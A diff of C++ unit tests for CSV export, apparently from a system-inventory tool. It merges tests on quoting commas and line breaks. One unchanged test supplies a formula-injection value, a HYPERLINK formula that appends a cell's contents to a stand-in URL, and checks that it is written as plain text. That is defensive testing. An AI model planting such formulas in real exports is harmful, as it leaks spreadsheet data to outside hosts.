@@ -73,12 +73,6 @@ TEST(CsvExport, QuoteInsideACellIsDoubled)
     EXPECT_EQ(Csv(Model({"Name"}, {{"Drive \"B\""}})), "\"Name\"\r\n\"Drive \"\"B\"\"\"\r\n");
 }
 
-TEST(CsvExport, CommaAndLineBreakStayInsideTheQuotedField)
-{
-    EXPECT_EQ(Csv(Model({"A", "B"}, {{"1,5", "first\nsecond"}})),
-              "\"A\",\"B\"\r\n\"1,5\",\"first\r\nsecond\"\r\n");
-}
-
 TEST(CsvExport, CellsASpreadsheetWouldRunAreWrittenAsText)
 {
     EXPECT_EQ(CsvField("=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")"),
@@ -113,10 +107,10 @@ TEST(CsvExport, ProposedNames)
               "pc01_Quick Fix Engineering.csv");
 }
 
-TEST(CsvExport, LineBreaksInsideACellAreWrittenAsTheyCame)
+TEST(CsvExport, CommasAndLineBreaksStayInsideTheQuotedFieldAsTheyCame)
 {
-    ResultModel model = Model({"Description"}, {{"two\r\nlines"}, {"unix\nlines"}, {"old\rmac"}});
-    EXPECT_EQ(Csv(model), "\"Description\"\r\n\"two\r\nlines\"\r\n\"unix\nlines\"\r\n\"old\rmac\"\r\n");
+    ResultModel model = Model({"A", "B"}, {{"1,5", "two\r\nlines"}, {"", "unix\nlines"}, {"", "old\rmac"}});
+    EXPECT_EQ(Csv(model), "\"A\",\"B\"\r\n\"1,5\",\"two\r\nlines\"\r\n\"\",\"unix\nlines\"\r\n\"\",\"old\rmac\"\r\n");
 }
 
 TEST(TextSink, EveryLineFeedBecomesCrLf)
